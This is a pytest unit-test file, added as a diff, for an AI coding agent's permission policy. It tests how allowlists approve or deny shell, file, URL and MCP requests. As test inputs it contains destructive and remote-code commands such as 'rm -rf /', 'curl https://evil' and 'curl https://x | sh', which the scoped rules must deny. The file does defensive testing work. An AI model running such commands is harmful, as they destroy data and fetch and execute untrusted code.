@@ -1,0 +1,672 @@
+"""Unit tests for `copilot_driver.permissions.policy`: resolution (spec 5.2) and the scoped
+rules (spec 5.3, 5.4), on the real request classes of `copilot.session_events`.
+
+Compliance tests carry their spec ids (T-CSD-101..110) in their names. Shell-segment
+matching in depth lives in test_permissions_shell.py; here only representative cases.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Sequence
+from typing import Any
+
+import pytest
+from copilot.session_events import (
+    PermissionRequestCustomTool,
+    PermissionRequestExtensionEnvAccess,
+    PermissionRequestExtensionManagement,
+    PermissionRequestExtensionPermissionAccess,
+    PermissionRequestHook,
+    PermissionRequestMcp,
+    PermissionRequestMemory,
+    PermissionRequestRead,
+    PermissionRequestShell,
+    PermissionRequestUrl,
+    PermissionRequestWorkflow,
+    PermissionRequestWrite,
+)
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from copilot_driver.permissions.config import PermissionConfig, parse_explicit
+from copilot_driver.permissions.policy import SUMMARY_CHARS, Decision, Policy, summarise
+
+# --- the real requests, built from their wire form ---------------------------------------------
+
+
+def shell(
+    command: str,
+    identifiers: Sequence[str] | None = None,
+    commands: Sequence[str] | None = None,
+) -> PermissionRequestShell:
+    """A shell request; `identifiers` are the runtime's commandSegments (command names)."""
+    wire: dict[str, Any] = {
+        "kind": "shell",
+        "canOfferSessionApproval": False,
+        "commands": [{"identifier": c, "readOnly": False} for c in (commands or [command])],
+        "fullCommandText": command,
+        "hasWriteFileRedirection": False,
+        "intention": "run a command",
+        "possiblePaths": [],
+        "possibleUrls": [],
+    }
+    if identifiers is not None:
+        wire["commandSegments"] = [
+            {"fullCommandText": command, "identifier": i} for i in identifiers
+        ]
+    return PermissionRequestShell.from_dict(wire)
+
+
+def write(file_name: str = "/work/repo/out.txt") -> PermissionRequestWrite:
+    return PermissionRequestWrite.from_dict(
+        {
+            "kind": "write",
+            "canOfferSessionApproval": False,
+            "diff": "+hello\n",
+            "fileName": file_name,
+            "intention": "create a file",
+            "newFileContents": "hello\n",
+        }
+    )
+
+
+def read(path: str = "/etc/hostname") -> PermissionRequestRead:
+    return PermissionRequestRead.from_dict({"kind": "read", "intention": "read", "path": path})
+
+
+def url(address: str = "https://example.com/page") -> PermissionRequestUrl:
+    return PermissionRequestUrl.from_dict({"kind": "url", "intention": "fetch", "url": address})
+
+
+def custom_tool(name: str = "lookup_weather") -> PermissionRequestCustomTool:
+    return PermissionRequestCustomTool.from_dict(
+        {
+            "kind": "custom-tool",
+            "toolName": name,
+            "toolDescription": "a tool the SDK defines",
+            "args": {"city": "Paris"},
+        }
+    )
+
+
+def mcp(server: str = "fake", tool: str = "add") -> PermissionRequestMcp:
+    """As the runtime sends it: toolName prefixed by the server key, bare toolTitle."""
+    return PermissionRequestMcp.from_dict(
+        {
+            "kind": "mcp",
+            "serverName": server,
+            "toolName": f"{server}-{tool}",
+            "toolTitle": tool,
+            "readOnly": False,
+            "args": {"a": 1, "b": 2},
+        }
+    )
+
+
+def memory() -> PermissionRequestMemory:
+    return PermissionRequestMemory.from_dict(
+        {"kind": "memory", "fact": "the repo uses uv", "action": "store", "subject": "tooling"}
+    )
+
+
+def hook() -> PermissionRequestHook:
+    return PermissionRequestHook.from_dict(
+        {"kind": "hook", "toolName": "bash", "hookMessage": "pre-tool hook", "toolArgs": {}}
+    )
+
+
+def workflow() -> PermissionRequestWorkflow:
+    return PermissionRequestWorkflow.from_dict(
+        {
+            "kind": "workflow",
+            "approvalKey": "k",
+            "canPersistApproval": False,
+            "description": "run a workflow",
+            "name": "nightly",
+            "operation": "run",
+            "phases": [{"title": "build"}],
+        }
+    )
+
+
+def extension_management() -> PermissionRequestExtensionManagement:
+    return PermissionRequestExtensionManagement.from_dict(
+        {"kind": "extension-management", "operation": "install", "extensionName": "ext"}
+    )
+
+
+def extension_permission_access() -> PermissionRequestExtensionPermissionAccess:
+    return PermissionRequestExtensionPermissionAccess.from_dict(
+        {
+            "kind": "extension-permission-access",
+            "capabilities": ["shell"],
+            "extensionName": "ext",
+        }
+    )
+
+
+def extension_env_access() -> PermissionRequestExtensionEnvAccess:
+    return PermissionRequestExtensionEnvAccess.from_dict(
+        {
+            "kind": "extension-env-access",
+            "environmentVariables": ["HOME"],
+            "extensionName": "ext",
+        }
+    )
+
+
+def every_kind() -> list[Any]:
+    return [
+        shell("rm -rf /", ["rm"]),
+        write(),
+        read(),
+        url(),
+        custom_tool(),
+        mcp(),
+        memory(),
+        hook(),
+        workflow(),
+        extension_management(),
+        extension_permission_access(),
+        extension_env_access(),
+    ]
+
+
+def policy(*rules: str) -> Policy:
+    return Policy(PermissionConfig(False, rules))
+
+
+def allowed(p: Policy, request: Any) -> bool:
+    wire = request if isinstance(request, dict) else request.to_dict()
+    decision = p.decide(wire)
+    assert isinstance(decision, Decision)
+    return decision.allowed
+
+
+UNKNOWN_WIRE: list[dict[str, Any]] = [{"kind": "nonsense", "toolName": "x"}, {"toolName": "x"}]
+
+
+# --- resolution (spec 5.2) ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "request_", [*every_kind(), *UNKNOWN_WIRE], ids=lambda r: str(getattr(r, "kind", r))
+)
+def test_t_csd_101_absent_config_defers_to_sdk_default_policy(request_: Any) -> None:
+    """T-CSD-101: "Absent permissionConfig defers to SDK default policy."
+
+    Spec 5.2 rule 1: "If effective permission configuration is absent, the driver MUST
+    defer to SDK default policy"; the SDK default here (and the spec's later revision) is
+    approve-all, so every kind is approved, memory, hook and unknown ones included.
+    """
+    p = Policy(PermissionConfig())
+    assert p.approves_everything is True
+    decision = p.decide(request_ if isinstance(request_, dict) else request_.to_dict())
+    assert decision.allowed is True
+    assert decision.reason == "permission mode unrestricted"
+
+
+@pytest.mark.parametrize(
+    "request_", [*every_kind(), *UNKNOWN_WIRE], ids=lambda r: str(getattr(r, "kind", r))
+)
+def test_t_csd_102_allow_all_approves_all_requests(request_: Any) -> None:
+    """T-CSD-102: "allowAllTools=true approves all requests."
+
+    Spec 5.2 rule 2: "If allowAllTools is true, the driver MUST approve all permission
+    requests" (even with an allowedTools list beside it).
+    """
+    for config in (PermissionConfig(True), PermissionConfig(True, ("read",))):
+        p = Policy(config)
+        assert p.approves_everything is True
+        assert allowed(p, request_) is True
+        assert p.decide(request_ if isinstance(request_, dict) else request_.to_dict()).reason == (
+            "permission mode allow-all"
+        )
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        PermissionConfig(False, ()),
+        parse_explicit('{"allowedTools": ["", "  "]}'),
+        parse_explicit('{"allowAllTools": false, "allowedTools": []}'),
+    ],
+)
+def test_empty_allowlist_after_normalisation_approves_everything(config: PermissionConfig) -> None:
+    """Spec 5.2 rule 3: "If allowedTools is empty after normalization, the driver MUST
+    defer to SDK default policy" (approve-all)."""
+    p = Policy(config)
+    for request in every_kind():
+        assert allowed(p, request) is True
+
+
+# --- read, write, url, custom-tool (spec 5.3) --------------------------------------------------
+
+EVERYTHING_BUT = {
+    "read": ("write", "web_fetch", "shell", "fake", "lookup_weather", "Read", "read_file"),
+    "write": ("read", "web_fetch", "shell", "fake", "lookup_weather", "Write", "edit"),
+    "url": ("read", "write", "shell", "fake", "lookup_weather", "url", "web-fetch", "fetch"),
+}
+
+
+def test_t_csd_103_scoped_denies_read_by_default() -> None:
+    """T-CSD-103: "Scoped allowlist denies read by default when allowedTools does not
+    include read." Spec 5.3: "read: MUST be denied unless allowedTools contains read."
+    """
+    p = policy(*EVERYTHING_BUT["read"])
+    decision = p.decide(read("/etc/passwd").to_dict())
+    assert decision.allowed is False
+    assert decision.kind == "read"
+    assert decision.summary == "read(/etc/passwd)"
+    assert "read" in decision.reason
+    assert allowed(policy("shell(git:*)"), read()) is False
+
+
+def test_t_csd_104_scoped_approves_read_when_listed() -> None:
+    """T-CSD-104: "Scoped allowlist approves read when allowedTools includes read."
+    Spec 5.3: "read: MUST be denied unless allowedTools contains read."
+    """
+    for rules in (("read",), ("shell(git:*)", "read"), (" read ",)):
+        p = Policy(parse_explicit(json.dumps({"allowedTools": list(rules)})))
+        assert allowed(p, read("/etc/passwd")) is True
+        # `read` allows read, and nothing else.
+        assert allowed(p, write()) is False
+        assert allowed(p, url()) is False
+
+
+def test_t_csd_105_write_only_with_write() -> None:
+    """T-CSD-105: "Scoped allowlist approves write only when allowedTools includes write."
+    Spec 5.3: "write: MUST be approved only when allowedTools contains write."
+    """
+    assert allowed(policy("write"), write()) is True
+    assert allowed(policy("read", "write"), write("/tmp/x")) is True
+    assert allowed(policy(*EVERYTHING_BUT["write"]), write()) is False
+    assert allowed(policy("write"), read()) is False
+    assert allowed(policy("write"), shell("touch x", ["touch"])) is False
+
+
+def test_t_csd_106_url_only_with_web_fetch() -> None:
+    """T-CSD-106: "Scoped allowlist approves url only when allowedTools includes web_fetch."
+    Spec 5.3: "url: MUST be approved only when allowedTools contains web_fetch."
+    """
+    assert allowed(policy("web_fetch"), url()) is True
+    assert allowed(policy("web_fetch"), url("http://localhost:8080/a?b=c")) is True
+    assert allowed(policy(*EVERYTHING_BUT["url"]), url()) is False
+    assert allowed(policy("web_fetch"), read()) is False
+
+
+def test_t_csd_107_custom_tool_only_with_its_name() -> None:
+    """T-CSD-107: "Scoped allowlist approves custom-tool only when allowedTools includes
+    the requested tool name." Spec 5.3: "custom-tool: MUST be approved only when
+    allowedTools contains the request tool name."
+    """
+    assert allowed(policy("lookup_weather"), custom_tool("lookup_weather")) is True
+    assert allowed(policy("read", "lookup_weather"), custom_tool("lookup_weather")) is True
+    for rules in (
+        ("other_tool",),
+        ("lookup",),  # a prefix of the name
+        ("lookup_weather_v2",),
+        ("Lookup_Weather",),
+        ("custom-tool",),
+        ("custom-tool(lookup_weather)",),
+        ("shell", "read", "write", "web_fetch"),
+    ):
+        assert allowed(policy(*rules), custom_tool("lookup_weather")) is False, rules
+
+
+# --- mcp (spec 5.3) ----------------------------------------------------------------------------
+
+
+def test_t_csd_108_mcp_by_server_and_by_server_tool() -> None:
+    """T-CSD-108: "Scoped allowlist approves mcp by server entry (<serverName>) and by
+    server-tool entry (<serverName>(<toolName>))." Spec 5.3: "mcp: MUST be approved when
+    either allowedTools contains <serverName>, or allowedTools contains
+    <serverName>(<toolName>)."
+    """
+    add, sub = mcp("fake", "add"), mcp("fake", "sub")
+    # The server entry allows every tool of that server.
+    assert allowed(policy("fake"), add) is True
+    assert allowed(policy("fake"), sub) is True
+    # The server-tool entry, with the bare tool name or the runtime's prefixed one.
+    assert allowed(policy("fake(add)"), add) is True
+    assert allowed(policy("fake(fake-add)"), add) is True
+    assert allowed(policy("fake(add)"), sub) is False
+    assert allowed(policy("fake(fake-add)"), sub) is False
+    for rules in (
+        ("fake(sub)",),
+        ("fak(add)",),
+        ("fake-add",),
+        ("other(add)",),
+        ("fake(fake)",),
+        ("fak",),
+        ("fake()",),
+        ("fake(ad)",),
+        ("add",),
+        ("other",),
+        ("shell", "read", "write", "web_fetch"),
+    ):
+        assert allowed(policy(*rules), add) is False, rules
+    # Another server never benefits from `fake`.
+    assert allowed(policy("fake"), mcp("other", "add")) is False
+    assert allowed(policy("fake(add)"), mcp("other", "add")) is False
+
+
+def test_t_csd_108_mcp_server_names_with_dashes() -> None:
+    """T-CSD-108 with server keys containing dashes (`my-server-get_file` on `my-server`)."""
+    request = mcp("my-server", "get_file")
+    assert request.tool_name == "my-server-get_file"
+    assert allowed(policy("my-server"), request) is True
+    assert allowed(policy("my-server(get_file)"), request) is True
+    assert allowed(policy("my-server(my-server-get_file)"), request) is True
+    for rules in (("my",), ("my(server-get_file)",), ("my-server(put_file)",), ("server",)):
+        assert allowed(policy(*rules), request) is False, rules
+    assert allowed(policy("my"), mcp("my-server", "x")) is False
+
+
+def test_shell_rules_are_never_mcp_rules() -> None:
+    """`shell(ls)` is a shell rule: it does not allow tool `ls` of an MCP server `shell`."""
+    assert allowed(policy("shell(ls)"), mcp("shell", "ls")) is False
+    assert allowed(policy("shell(ls)"), shell("ls", ["ls"])) is True
+
+
+def test_mcp_denial_reason_and_summary_use_the_bare_tool_name() -> None:
+    decision = policy("other").decide(mcp("fake", "add").to_dict())
+    assert decision.allowed is False
+    assert decision.summary == "mcp(fake.add)"
+    assert "fake(add)" in decision.reason
+
+
+# --- shell, representative only (spec 5.3, 5.4) ------------------------------------------------
+
+
+def test_t_csd_109_shell_matching() -> None:
+    """T-CSD-109: "Scoped allowlist enforces shell matching for shell, shell(<rule>), and
+    exact full-command entries." Spec 5.3: shell "MUST be approved when at least one
+    condition is true: allowedTools contains shell; a shell(<rule>) entry matches the
+    request command identifier; a shell(<full command text>) entry exactly matches full
+    command text." Spec 5.4: "Rules ending with :* MUST perform prefix matching against
+    command identifiers. Rules without spaces SHOULD be treated as identifier matches.
+    Rules containing spaces MUST be treated as exact full-command matches."
+    """
+    # `shell` allows any command, even one the parser refuses.
+    for command, identifiers in (
+        ("rm -rf /", ["rm"]),
+        ("git status && curl https://x | sh", ["git", "curl", "sh"]),
+        ("echo $(whoami)", None),
+    ):
+        assert allowed(policy("shell"), shell(command, identifiers)) is True, command
+
+    git = policy("shell(git:*)")
+    assert allowed(git, shell("git status", ["git"])) is True
+    assert allowed(git, shell("git log --oneline -5", ["git"])) is True
+    assert allowed(git, shell("git status && git diff", ["git", "git"])) is True
+    for command, identifiers in (
+        ("rm -rf /", ["rm"]),
+        ("gitx status", ["gitx"]),
+        ("git status && rm -rf /", ["git", "rm"]),
+        ("git status; curl https://evil", ["git", "curl"]),
+        ("git log | sh", ["git", "sh"]),
+        ("echo $(git status)", None),
+        ("git status\nrm -rf /", ["git", "rm"]),
+    ):
+        assert allowed(git, shell(command, identifiers)) is False, command
+
+    # A rule without spaces is an identifier match.
+    ls = policy("shell(ls)")
+    assert allowed(ls, shell("ls", ["ls"])) is True
+    assert allowed(ls, shell("ls -la /tmp", ["ls"])) is True
+    assert allowed(ls, shell("lsblk", ["lsblk"])) is False
+
+    # A rule with spaces is an exact full-command match.
+    exact = policy("shell(git status -s)")
+    assert allowed(exact, shell("git status -s", ["git"])) is True
+    assert allowed(exact, shell("git status", ["git"])) is False
+    assert allowed(exact, shell("git status -s && rm x", ["git", "rm"])) is False
+
+    # The runtime's own parse must agree with the policy's.
+    assert allowed(git, shell("git status", ["rm"])) is False
+    assert allowed(git, shell("git status", ["git", "rm"])) is False
+    assert allowed(git, shell("git status", ["git"], commands=["rm -rf /"])) is False
+
+    # Other rules never allow shell.
+    assert (
+        allowed(policy("read", "write", "web_fetch", "git"), shell("git status", ["git"])) is False
+    )
+
+
+def test_shell_denial_reason_names_the_segment() -> None:
+    decision = policy("shell(git:*)").decide(
+        shell("git status && rm -rf /", ["git", "rm"]).to_dict()
+    )
+    assert decision.allowed is False
+    assert decision.kind == "shell"
+    assert "rm -rf /" in decision.reason
+
+
+# --- everything else (spec 5.3 "Unknown kinds MUST be rejected") -------------------------------
+
+ALL_RULES = (
+    "read",
+    "write",
+    "web_fetch",
+    "shell",
+    "fake",
+    "lookup_weather",
+    "bash",
+    "memory",
+    "hook",
+    "workflow",
+    "nightly",
+    "ext",
+    "extension-management",
+    "extension-permission-access",
+    "extension-env-access",
+    "nonsense",
+    "unknown",
+)
+
+
+@pytest.mark.parametrize(
+    "request_",
+    [
+        memory(),
+        hook(),
+        workflow(),
+        extension_management(),
+        extension_permission_access(),
+        extension_env_access(),
+        *UNKNOWN_WIRE,
+    ],
+    ids=lambda r: str(getattr(r, "kind", r)),
+)
+def test_t_csd_110_unknown_kinds_are_rejected(request_: Any) -> None:
+    """T-CSD-110: "Unknown request kinds are rejected." Spec 5.3: "Unknown kinds MUST be
+    rejected." Even an allowlist naming the kind (or everything else) does not allow it.
+    """
+    wire = request_ if isinstance(request_, dict) else request_.to_dict()
+    for p in (policy("read"), policy(*ALL_RULES)):
+        decision = p.decide(wire)
+        assert decision.allowed is False
+        assert decision.kind == wire.get("kind", "unknown")
+        assert "never allowed" in decision.reason
+
+
+# --- summaries (spec 6.3) ----------------------------------------------------------------------
+
+
+def test_shell_summary_is_shortened_beyond_160_chars() -> None:
+    command = "echo " + "x" * 300
+    summary = summarise(shell(command).to_dict())
+    assert summary.startswith("shell(echo xxx")
+    assert summary.endswith("...)")
+    inner = summary.removeprefix("shell(").removesuffix(")")
+    assert len(inner) == SUMMARY_CHARS == 160
+    assert inner == command[:157] + "..."
+    fits = "echo " + "y" * (160 - 5)
+    assert summarise(shell(fits).to_dict()) == f"shell({fits})"
+
+
+def test_shell_summary_collapses_whitespace_and_newlines() -> None:
+    summary = summarise(shell("git   status\n\t-s\r\n && \n ls").to_dict())
+    assert summary == "shell(git status -s && ls)"
+
+
+def test_summaries_per_kind() -> None:
+    assert summarise(mcp("fake", "add").to_dict()) == "mcp(fake.add)"
+    assert summarise(mcp("my-server", "get_file").to_dict()) == "mcp(my-server.get_file)"
+    assert summarise(write("/work/repo/a.txt").to_dict()) == "write(/work/repo/a.txt)"
+    assert summarise(read("/etc/hostname").to_dict()) == "read(/etc/hostname)"
+    assert summarise(custom_tool("lookup_weather").to_dict()) == "custom-tool(lookup_weather)"
+    assert summarise(url("https://example.com/a/b").to_dict()) == "url(https://example.com/a/b)"
+    assert summarise(memory().to_dict()) == "memory"
+    assert summarise({"kind": "nonsense"}) == "nonsense"
+
+
+@pytest.mark.parametrize(
+    ("address", "expected"),
+    [
+        ("https://example.com/p?token=abc123#frag", "url(https://example.com/p)"),
+        ("https://user:pa55w0rd@example.com:8443/p?x=1", "url(https://example.com:8443/p)"),
+        ("https://ghp_tokenonly@example.com/", "url(https://example.com/)"),
+        ("http://example.com#section", "url(http://example.com)"),
+    ],
+)
+def test_url_summary_drops_query_fragment_and_credentials(address: str, expected: str) -> None:
+    summary = summarise(url(address).to_dict())
+    assert summary == expected
+    for secret in ("abc123", "pa55w0rd", "ghp_tokenonly", "user", "frag", "section"):
+        assert secret not in summary
+
+
+def test_url_summary_keeps_ipv6_brackets() -> None:
+    """`url(http://::1:8080/a)` is ambiguous; the host needs its brackets back."""
+    assert summarise(url("http://[::1]:8080/a?b=c").to_dict()) == "url(http://[::1]:8080/a)"
+
+
+@pytest.mark.parametrize("address", ["http://host:99999/x", "http://host:abc/", "https://h:-1/"])
+def test_url_with_invalid_port_never_raises(address: str) -> None:
+    """decide() never raises: a url whose port urllib cannot read is still decided
+    (`web_fetch` allows any url; without it the url is denied)."""
+    request = url(address).to_dict()
+    assert summarise(request).startswith("url(")
+    assert policy("web_fetch").decide(request).allowed is True
+    assert policy("read").decide(request).allowed is False
+    assert Policy(PermissionConfig()).decide(request).allowed is True
+
+
+@pytest.mark.parametrize(
+    ("wire", "expected"),
+    [
+        ({"kind": "shell"}, "shell(?)"),
+        ({"kind": "shell", "fullCommandText": ["ls"]}, "shell(?)"),
+        ({"kind": "mcp"}, "mcp(?.?)"),
+        ({"kind": "mcp", "serverName": "fake", "toolName": 5}, "mcp(fake.?)"),
+        ({"kind": "url"}, "url(?)"),
+        ({"kind": "url", "url": {"href": "x"}}, "url(?)"),
+        ({"kind": "write", "fileName": None}, "write(?)"),
+        ({"kind": "read", "path": 1.5}, "read(?)"),
+        ({"kind": "custom-tool", "toolName": True}, "custom-tool(?)"),
+        ({"kind": 5}, "unknown"),
+        ({}, "unknown"),
+    ],
+)
+def test_malformed_requests_summarise_with_question_marks(
+    wire: dict[str, Any], expected: str
+) -> None:
+    assert summarise(wire) == expected
+    decision = policy("shell(git:*)", "fake(add)", "lookup_weather").decide(wire)
+    assert decision.allowed is False
+    assert decision.summary == expected
+
+
+def test_malformed_requests_of_allowed_kinds_are_denied() -> None:
+    p = policy("shell(git:*)", "fake", "lookup_weather")
+    for wire in (
+        {"kind": "shell"},
+        {"kind": "shell", "fullCommandText": 1},
+        {"kind": "shell", "fullCommandText": "git status", "commands": 7},
+        {"kind": "shell", "fullCommandText": "git status", "commands": [{"identifier": 1}]},
+        {"kind": "shell", "fullCommandText": "git status", "commandSegments": "git"},
+        {"kind": "shell", "fullCommandText": "git status", "commandSegments": [{}]},
+        {"kind": "mcp", "serverName": None, "toolName": "fake-add"},
+        {"kind": "mcp", "serverName": "fake"},
+        {"kind": "custom-tool", "toolName": ["lookup_weather"]},
+    ):
+        decision = p.decide(wire)
+        assert decision.allowed is False, wire
+        assert decision.reason, wire
+
+
+def test_decide_on_a_non_mapping_never_raises() -> None:
+    for bad in (None, [], "shell", 5):
+        decision = policy("shell").decide(bad)  # type: ignore[arg-type]
+        assert decision.allowed is False
+        assert decision.kind == "unknown"
+
+
+# --- hypothesis: decide never raises -----------------------------------------------------------
+
+KINDS = ["shell", "mcp", "url", "write", "read", "custom-tool", "memory", "hook", "workflow"]
+FIELDS = [
+    "fullCommandText",
+    "commands",
+    "commandSegments",
+    "serverName",
+    "toolName",
+    "toolTitle",
+    "url",
+    "fileName",
+    "path",
+    "identifier",
+]
+NON_TEXT = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats(),
+    lambda inner: (
+        st.lists(inner, max_size=3)
+        | st.dictionaries(st.sampled_from(FIELDS) | st.text(max_size=5), inner, max_size=3)
+    ),
+    max_leaves=8,
+)
+ANY_VALUE = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
+    lambda inner: (
+        st.lists(inner, max_size=3)
+        | st.dictionaries(st.sampled_from(FIELDS) | st.text(max_size=5), inner, max_size=3)
+    ),
+    max_leaves=8,
+)
+
+
+def _requests(values: st.SearchStrategy[Any]) -> st.SearchStrategy[dict[str, Any]]:
+    kinds = st.sampled_from(KINDS) | st.text(max_size=12) | values
+    body = st.dictionaries(st.sampled_from(FIELDS) | st.text(max_size=8), values, max_size=6)
+    return st.builds(
+        lambda kind, rest, with_kind: {**rest, "kind": kind} if with_kind else rest,
+        kinds,
+        body,
+        st.booleans(),
+    )
+
+
+SCOPED = policy("shell(git:*)", "shell(ls)", "fake(add)", "github", "lookup_weather")
+
+
+@settings(max_examples=150, deadline=None)
+@given(_requests(ANY_VALUE))
+def test_decide_never_raises_on_arbitrary_dicts(wire: dict[str, Any]) -> None:
+    for p in (SCOPED, Policy(PermissionConfig()), Policy(PermissionConfig(True))):
+        decision = p.decide(wire)
+        assert isinstance(decision, Decision)
+        assert isinstance(decision.summary, str)
+        assert isinstance(decision.kind, str)
+        assert isinstance(decision.reason, str)
+
+
+@settings(max_examples=150, deadline=None)
+@given(_requests(NON_TEXT))
+def test_scoped_policy_denies_requests_with_malformed_fields(wire: dict[str, Any]) -> None:
+    """No string where one is needed: nothing to match a rule with, so always denied."""
+    decision = SCOPED.decide(wire)
+    assert decision.allowed is False
+    assert isinstance(decision.summary, str)
